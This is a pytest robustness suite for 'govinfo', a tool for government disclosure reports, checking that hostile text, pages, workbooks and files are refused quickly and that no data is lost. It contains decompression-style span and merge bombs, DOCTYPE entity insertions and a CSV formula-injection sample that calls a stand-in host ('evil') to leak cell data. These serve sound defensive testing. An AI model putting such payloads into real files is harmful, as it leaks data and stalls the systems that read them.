"""What a robustness sweep found: hostile input costs little and ends in a GovinfoError or a
result, and no decision or file is lost. Each test is one reproducer, made small."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import multiprocessing
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import attrs
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import govinfo
import govinfo.analysis.aggregate
from govinfo.cli import main
from govinfo.reading.text import html
from govinfo.reading.workbook import safety
from govinfo.reading.workbook.load import Engine
from govinfo.writing.atomic import write_atomically
from tests.test_cli import run
from tests.test_xlsx_safety import rezip

QUICK = 5.0
"""Seconds any of these inputs may take at most (they took minutes, or never ended, before)."""


def quickly(action: Callable[[], object]) -> float:
    started = time.perf_counter()
    with contextlib.suppress(govinfo.GovinfoError):
        action()
    spent = time.perf_counter() - started
    assert spent < QUICK
    return spent


# ----- numbers too long for int() ---------------------------------------------------------


def test_a_number_of_thousands_of_digits_in_text_is_unreadable_not_a_crash() -> None:
    report, findings = govinfo.read_text(govinfo.example_text().replace("行政许可\t7661", "行政许可\t" + "9" * 5000))
    assert govinfo.get_cell(report, "proactive.licensing.decisions") == 0
    assert "GI504" in {f.rule_id for f in findings}
    quickly(lambda: govinfo.read_text("规章\t" + "9" * 5000))


def test_a_huge_count_in_json_is_a_structure_error_at_its_path() -> None:
    data = govinfo.to_dict(govinfo.example())
    data["requests"]["received"]["natural_person"] = 10**30
    with pytest.raises(govinfo.StructureError) as caught:
        govinfo.from_dict(data)
    assert "requests.received.natural_person" in str(caught.value)
    text = govinfo.to_json(govinfo.example()).replace('"natural_person": 212', '"natural_person": ' + "9" * 5000, 1)
    with pytest.raises(govinfo.StructureError):
        govinfo.from_json(text)


def test_a_huge_figure_in_the_overview_is_no_crash() -> None:
    report = attrs.evolve(govinfo.example(), overview="本年度共受理政府信息公开申请 " + "9" * 5000 + " 件。")
    assert govinfo.check(report) == []  # not a figure a count could be: nothing to compare


def test_the_model_bounds_counts_years_amounts_and_text() -> None:
    with pytest.raises(govinfo.FieldTypeError, match="2\\^63"):
        govinfo.model.ApplicantCounts.from_parts(natural_person=2**63)
    with pytest.raises(govinfo.FieldTypeError, match="0–9999"):
        attrs.evolve(govinfo.example(), year=2**53 + 1)
    with pytest.raises(govinfo.FieldTypeError, match="残缺字符"):
        attrs.evolve(govinfo.example(), organ="某局\ud800")
    with pytest.raises(govinfo.FieldTypeError):
        govinfo.replace_cells(govinfo.example(), {"proactive.fees.amount": Decimal("1e200")})
    with pytest.raises(govinfo.StructureError):
        govinfo.from_json(govinfo.to_json(govinfo.example()).replace("湛河区人民政府", "\\ud800", 1))


# ----- text and pages ---------------------------------------------------------------------


def test_an_undefined_charset_is_no_crash() -> None:
    page = b'<html><head><meta charset="undefined"></head><body>' + "政府信息公开".encode("gbk") + b"</body></html>"
    with pytest.raises(govinfo.LayoutError):
        govinfo.read_published(page)


def test_big5_pages_are_decoded_as_big5() -> None:
    copy = Path(__file__).parent / "data" / "published" / "wuhan-ecology-2020-traditional-partial.txt"
    result = govinfo.read_published(copy.read_text(encoding="utf-8").encode("big5"))
    assert [f.message_zh for f in result.findings if f.rule_id == "GI520"] == [
        "文本不是 UTF-8 编码，已按 BIG5 编码读取。"
    ]
    assert result.report == govinfo.read_published(copy).report


@pytest.mark.parametrize("digits", [26, 40, 2000])
def test_a_long_run_of_digits_ending_in_a_letter_is_read_in_linear_time(digits: int) -> None:
    quickly(lambda: govinfo.read_text("规章\t" + "1" * digits + "x"))


def test_reading_text_stays_linear_in_its_size() -> None:
    def cost(copies: int) -> float:
        text = "规章\t" + "1 " * copies + "x\n" + govinfo.example_text()
        started = time.perf_counter()
        govinfo.read_text(text)
        return time.perf_counter() - started

    small, large = min(cost(5_000) for _ in range(3)), min(cost(40_000) for _ in range(3))
    assert large < 8 * small * 3  # eight times the input, within three times of eight times the cost


def test_spans_that_would_amplify_a_page_are_refused() -> None:
    cell = '<td rowspan="50" colspan="50">1</td>'
    page = "<html><table>" + ("<tr>" + cell * 200 + "</tr>") * 120 + "</table></html>"
    assert len(page) < 1_000_000
    with pytest.raises(govinfo.UnsafeFileError, match="合并单元格"):
        govinfo.read_text(page)
    assert html.MAX_POSITIONS == 500_000


def test_a_row_span_stops_at_the_last_row() -> None:
    page = "<html><table><tr><td rowspan='50'>规章</td><td>1</td></tr></table></html>"
    lines, _ = html.flatten(page)
    assert lines == ["规章\t1"]


# ----- files that are not files -------------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_or_a_device_is_refused_not_read(tmp_path: Path) -> None:
    fifo = tmp_path / "报告.txt"
    os.mkfifo(fifo)
    with pytest.raises(govinfo.FileFormatError, match="不是普通文件"):
        govinfo.read(fifo)  # opening it would wait for a writer forever
    endless = tmp_path / "零.json"
    endless.symlink_to("/dev/zero")
    with pytest.raises(govinfo.FileFormatError, match="不是普通文件"):
        govinfo.read(endless)


def test_a_folder_is_refused_as_a_folder(tmp_path: Path) -> None:
    with pytest.raises(govinfo.FileFormatError, match="文件夹"):
        govinfo.read(tmp_path)


# ----- workbooks ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def valid() -> bytes:
    buffer = io.BytesIO()
    govinfo.write_xlsx(govinfo.example(), buffer)
    return buffer.getvalue()


def _sheet(data: bytes, name: str = "xl/worksheets/sheet3.xml") -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read(name)


def _with_formula(data: bytes, cell: str, formula: str, extra: str = "") -> bytes:
    """Table 三's sheet with ``cell``'s value replaced by a formula without a saved result."""
    sheet = _sheet(data).decode()
    start = sheet.index(f'<c r="{cell}"')
    end = sheet.index("</c>", start) + len("</c>")
    sheet = sheet[:start] + f'<c r="{cell}"><f>{formula}</f></c>' + extra + sheet[end:]
    return rezip(data, {"xl/worksheets/sheet3.xml": sheet.encode()})


def test_a_sum_over_the_whole_sheet_is_not_enumerated(valid: bytes) -> None:
    data = _with_formula(valid, "D5", "SUM(A1:XFD1048576)")
    quickly(lambda: govinfo.read_xlsx(data))
    findings = govinfo.read_xlsx(data).findings
    assert [(f.rule_id, f.source.cell if f.source else None) for f in findings if f.rule_id == "GI507"] == [
        ("GI507", "D5")
    ]


def test_a_chain_of_formulas_is_evaluated_once_per_cell(valid: bytes) -> None:
    sheet = _sheet(valid).decode()
    # D5 = D6 + 0·…; a chain of 60 formulas, each adding the previous one twice, through cells that hold 0
    cells = [f"D{r}" for r in range(6, 29)]
    formulas = {cells[0]: "0"} | {cells[k]: f"{cells[k - 1]}+{cells[k - 1]}" for k in range(1, len(cells))}
    for cell, formula in formulas.items():
        start = sheet.index(f'<c r="{cell}"')
        end = sheet.index("</c>", start) + len("</c>")
        sheet = sheet[:start] + f'<c r="{cell}"><f>{formula}</f></c>' + sheet[end:]
    data = rezip(valid, {"xl/worksheets/sheet3.xml": sheet.encode()})
    quickly(lambda: govinfo.read_xlsx(data))


def test_a_merge_over_a_whole_sheet_is_refused_before_parsing(valid: bytes) -> None:
    sheet = _sheet(valid).replace(b"</mergeCells>", b'<mergeCell ref="A40:XFD1048576"/></mergeCells>')
    data = rezip(valid, {"xl/worksheets/sheet3.xml": sheet})
    with pytest.raises(govinfo.UnsafeFileError, match="合并单元格"):
        govinfo.read_xlsx(data)
    quickly(lambda: govinfo.read_xlsx(data))


def test_a_far_cell_does_not_make_calamine_allocate_the_rectangle(valid: bytes) -> None:
    pytest.importorskip("python_calamine")
    stray = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    sheet = _sheet(valid, "xl/worksheets/sheet4.xml").replace(b"</sheetData>", stray, 1)
    data = rezip(valid, {"xl/worksheets/sheet4.xml": sheet})
    assert govinfo.read_xlsx(data, engine="calamine") == govinfo.read_xlsx(data, engine="openpyxl")


def test_too_many_cells_are_refused_while_the_xml_inflates(valid: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(safety, "MAX_CELLS", 100)

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("openpyxl was handed a workbook that should have been refused")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    with pytest.raises(govinfo.UnsafeFileError, match="单元格"):
        govinfo.read_xlsx(valid)


@settings(max_examples=40, deadline=2000)
@given(st.binary(min_size=1, max_size=64), st.integers(min_value=0, max_value=2000))
def test_damaged_workbooks_end_quickly_in_a_result_or_an_error(junk: bytes, at: int) -> None:
    data = bytearray(VALID_FOR_SWEEP)
    at = at * len(data) // 2000
    data[at : at + len(junk)] = junk
    engines: tuple[Engine, ...] = ("openpyxl", "calamine")
    for engine in engines:
        with contextlib.suppress(govinfo.GovinfoError):
            govinfo.read_xlsx(bytes(data), engine=engine)


def _valid_bytes() -> bytes:
    buffer = io.BytesIO()
    govinfo.write_xlsx(govinfo.example(), buffer)
    return buffer.getvalue()


VALID_FOR_SWEEP = _valid_bytes()


# ----- the command: one boundary, Ctrl-C, the closed pipe ------------------------------------------


def test_a_fault_in_any_command_is_one_line_not_a_traceback(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def broken(*args: object, **kwargs: object) -> object:
        raise RuntimeError("boom")

    monkeypatch.setattr(govinfo, "compare", broken)
    report = govinfo.to_json(govinfo.example())
    folder = Path(os.environ.get("TMPDIR", "/tmp"))
    a, b = folder / "govinfo-fault-a.json", folder / "govinfo-fault-b.json"
    a.write_text(report, encoding="utf-8")
    b.write_text(report, encoding="utf-8")
    try:
        status = main(["compare", str(a), str(b)])
    finally:
        a.unlink()
        b.unlink()
    err = capsys.readouterr().err
    assert status == 2
    assert "内部错误，请报告此问题（RuntimeError: boom）" in err
    assert "Traceback" not in err


def test_an_output_cut_short_ends_quietly() -> None:
    command = [sys.executable, "-m", "govinfo", "schema"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        assert process.stdout is not None
        assert process.stderr is not None
        process.stdout.readline()
        process.stdout.close()
        err = process.stderr.read()
        process.wait(timeout=30)
    assert err == b""
    assert process.returncode == 141


def test_ctrl_c_ends_a_parallel_batch_within_seconds_without_traceback(tmp_path: Path) -> None:
    for k in range(300):
        (tmp_path / f"{k:03d}.txt").write_text(govinfo.example_text(), encoding="utf-8")
    command = [sys.executable, "-m", "govinfo", "check", "-j", "2", str(tmp_path)]
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE) as process:
        time.sleep(2.0)
        process.send_signal(signal.SIGINT)
        started = time.perf_counter()
        assert process.stderr is not None
        err = process.stderr.read().decode()
        process.wait(timeout=20)
        assert time.perf_counter() - started < QUICK
    assert process.returncode == 130
    assert "Traceback" not in err
    assert "KeyboardInterrupt" not in err


# ----- lost data ------------------------------------------------------------------------------


def _decide(path: str, keys: list[str], by: str) -> None:
    for key in keys:

        def accept(reviews: govinfo.Reviews, key: str = key) -> govinfo.Review:
            return reviews.decide(key, "accepted", by=by)

        govinfo.Reviews.update(path, accept)


def test_concurrent_reviewers_lose_no_decision(tmp_path: Path) -> None:
    path = tmp_path / "审核.json"
    reviews = govinfo.Reviews()
    report = govinfo.example()
    findings = [govinfo.rule("GI513").finding(path=f"year{k}") for k in range(40)]
    for finding, print_ in zip(findings, govinfo.fingerprints(findings, report), strict=True):
        reviews.record(finding, report, print_)
    reviews.save(path)
    keys = sorted(reviews.entries)
    context = multiprocessing.get_context("spawn")
    workers = [context.Process(target=_decide, args=(str(path), keys[k::4], f"审核人{k}")) for k in range(4)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(timeout=120)
        assert worker.exitcode == 0
    decided = govinfo.Reviews.load(path).entries
    assert sorted(decided) == keys
    assert all(entry.decision == "accepted" for entry in decided.values())
    assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".govinfo-tmp")]


def test_saving_merges_with_what_others_decided_meanwhile(tmp_path: Path) -> None:
    path = tmp_path / "审核.json"
    report = govinfo.example()
    finding = govinfo.rule("GI513").finding(path="year")
    (print_,) = govinfo.fingerprints([finding], report)
    first = govinfo.Reviews()
    first.record(finding, report, print_)
    first.save(path)
    stale = govinfo.Reviews.load(path)  # a check started before the decision
    govinfo.Reviews.update(path, lambda r: r.decide(print_.key, "dismissed", by="张三", reason="误报"))
    stale.save(path)
    assert govinfo.Reviews.load(path).entries[print_.key].decision == "dismissed"


def test_a_review_file_with_a_key_twice_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "审核.json"
    path.write_text('{"format": "govinfo-review", "version": 1, "findings": {"a": {}, "a": {}}}', encoding="utf-8")
    with pytest.raises(govinfo.FileFormatError, match="duplicate key"):
        govinfo.Reviews.load(path)


def test_exported_text_never_becomes_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    hostile = attrs.evolve(govinfo.example(), organ='=HYPERLINK("http://evil/?"&A1,"x")')
    (tmp_path / "@单位.json").write_text(govinfo.to_json(hostile), encoding="utf-8")
    status, _, _ = run(capsys, "export", str(tmp_path / "@单位.json"), "-o", str(tmp_path / "明细.csv"), "-j", "1")
    assert status == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "明细.csv").read_text(encoding="utf-8-sig"))))
    assert {r["机关"] for r in rows} == {"'" + hostile.organ}
    assert all(not r["文件"].startswith(("=", "+", "@")) for r in rows)
    assert {r["数值"] for r in rows if r["路径"] == "proactive.fees.amount"} == {"14.4321"}


def test_files_written_honour_the_umask_and_leave_no_temporary_file(tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        govinfo.write_xlsx(govinfo.example(), tmp_path / "报告.xlsx")
        status = main(["convert", str(tmp_path / "报告.xlsx"), str(tmp_path / "报告.json")])
    finally:
        os.umask(old)
    assert status in (0, 1)
    for name in ("报告.xlsx", "报告.json"):
        assert (tmp_path / name).stat().st_mode & 0o777 == 0o644
    assert sorted(p.name for p in tmp_path.iterdir()) == ["报告.json", "报告.xlsx"]


def test_a_stale_temporary_file_of_ours_is_removed_on_the_next_write(tmp_path: Path) -> None:
    stale = tmp_path / ".报告.json.abcd1234.govinfo-tmp"
    stale.write_bytes(b"left by a killed process")
    os.utime(stale, (time.time() - 7200, time.time() - 7200))
    fresh = tmp_path / ".报告.json.efgh5678.govinfo-tmp"
    fresh.write_bytes(b"another writer, still at work")
    write_atomically(tmp_path / "报告.json", json.dumps({}).encode())
    assert sorted(p.name for p in tmp_path.iterdir()) == [fresh.name, "报告.json"]


def test_an_aggregate_to_a_missing_folder_is_an_error_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "a.json").write_text(govinfo.to_json(govinfo.example()), encoding="utf-8")
    status, _, err = run(
        capsys, "aggregate", str(tmp_path / "a.json"), "-o", str(tmp_path / "没有" / "汇总.json"), "--organ", "某区"
    )
    assert status == 2
    assert "文件夹" in err
    assert "不存在" in err


# ----- the two engines agree ----------------------------------------------------------------------

_PARTS = ("xl/styles.xml", "docProps/core.xml", "[Content_Types].xml", "xl/workbook.xml")


def _outcome(data: bytes, engine: Engine) -> object:
    try:
        result = govinfo.read_xlsx(data, engine=engine)
    except govinfo.GovinfoError as error:
        return type(error).__name__
    return result.report, [(f.rule_id, f.path, f.source) for f in result.findings]


_CELLS = sorted(set(re.findall(r'<c r="([A-Z]+[0-9]+)"', _sheet(VALID_FOR_SWEEP).decode())))
_VALUES = ("NaN", "INF", "-0", "1e400", "", "abc", "0x10", "9" * 30)
_MUTATIONS = st.one_of(
    st.tuples(st.just("value"), st.sampled_from(_CELLS), st.sampled_from(_VALUES)),
    st.tuples(st.just("drop"), st.sampled_from(_CELLS), st.just("")),
    st.tuples(st.just("merge"), st.sampled_from(_CELLS), st.sampled_from(_CELLS)),
    st.tuples(st.just("dtd"), st.just(""), st.sampled_from(_PARTS)),
)
"""One hostile or odd change, of the kinds the sweep found the engines differ on: (kind, cell, what)."""


def _mutated(kind: str, cell: str, what: str) -> bytes:
    if kind == "dtd":
        xml = zipfile.ZipFile(io.BytesIO(VALID_FOR_SWEEP)).read(what)
        at = xml.index(b"?>") + 2 if b"?>" in xml[:100] else 0
        return rezip(VALID_FOR_SWEEP, {what: xml[:at] + b'<!DOCTYPE x [<!ENTITY a "b">]>' + xml[at:]})
    sheet = _sheet(VALID_FOR_SWEEP).decode()
    start = sheet.index(f'<c r="{cell}"')
    end = min(x for x in (sheet.find("</c>", start) + 4, sheet.find("/>", start) + 2) if x > 1)
    if kind == "value":
        sheet = sheet[:start] + f'<c r="{cell}"><v>{what}</v></c>' + sheet[end:]
    elif kind == "drop":
        sheet = sheet[:start] + sheet[end:]
    else:
        first, last = sorted((cell, what))
        sheet = sheet.replace("</mergeCells>", f'<mergeCell ref="{first}:{last}"/></mergeCells>')
    return rezip(VALID_FOR_SWEEP, {"xl/worksheets/sheet3.xml": sheet.encode()})


@settings(max_examples=60, deadline=None)
@given(_MUTATIONS)
def test_both_engines_give_the_same_report_or_the_same_error(mutation: tuple[str, str, str]) -> None:
    pytest.importorskip("python_calamine")
    data = _mutated(*mutation)
    assert _outcome(data, "calamine") == _outcome(data, "openpyxl")


def test_long_reasons_in_the_aggregate_notes_are_kept_whole(tmp_path: Path) -> None:
    total = govinfo.aggregate([govinfo.example()], organ="某区")
    many = tuple(govinfo.rule("GI513").finding(path=f"year{k}") for k in range(2_000))
    excluded = govinfo.analysis.aggregate.Exclusion("某局", many)
    govinfo.write_aggregate_xlsx(attrs.evolve(total, excluded=(excluded,)), tmp_path / "汇总.xlsx")
    notes = openpyxl.load_workbook(tmp_path / "汇总.xlsx")["汇总说明"]
    rows = [(r[0].value, r[1].value) for r in notes.iter_rows(min_row=1, max_col=2)]
    start = next(k for k, (label, _) in enumerate(rows) if label == "某局")
    *reasons, mark = rows[start:]
    assert str(mark[1]).startswith("本文件由 govinfo 生成：汇总")  # the last line, known if it comes back
    written = "".join(str(value) for _, value in reasons)
    expected = "；".join(f"[{f.rule_id}] {f.message_zh}" for f in many)
    assert len(expected) > 32_767
    assert written == expected
    assert [label for label, _ in reasons[1:]] == ["（续）"] * (len(reasons) - 1)


def test_an_organ_name_too_long_for_a_header_is_refused_not_cut(tmp_path: Path) -> None:
    total = govinfo.aggregate([attrs.evolve(govinfo.example(), organ="局" * 40_000)], organ="某区")
    with pytest.raises(govinfo.UnwritableValueError, match="表头"):
        govinfo.write_aggregate_xlsx(total, tmp_path / "汇总.xlsx")
    assert list(tmp_path.iterdir()) == []


_TEXT_PIECES = st.sampled_from(
    ["规章", "\t", "|", " ", "\n", "1", "9" * 30, "<td rowspan=50 colspan=50>", "</td>", "<tr>", "<table>", "件", "。"]
)


@settings(max_examples=60, deadline=1000)
@given(st.lists(_TEXT_PIECES, max_size=400).map("".join), st.integers(min_value=1, max_value=30))
def test_hostile_text_is_read_or_refused_within_a_deadline(text: str, copies: int) -> None:
    with contextlib.suppress(govinfo.GovinfoError):
        govinfo.read_text(text * copies)
